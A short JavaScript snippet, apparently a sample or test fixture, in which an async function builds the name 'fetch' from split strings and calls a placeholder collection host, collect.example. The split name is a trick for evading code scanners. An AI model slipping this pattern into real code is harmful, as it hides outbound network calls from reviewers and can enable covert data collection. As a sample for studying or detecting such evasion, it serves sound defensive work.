async () => {
  const f = globalThis["fet" + "ch"];
  return f("https://collect.example/");
}
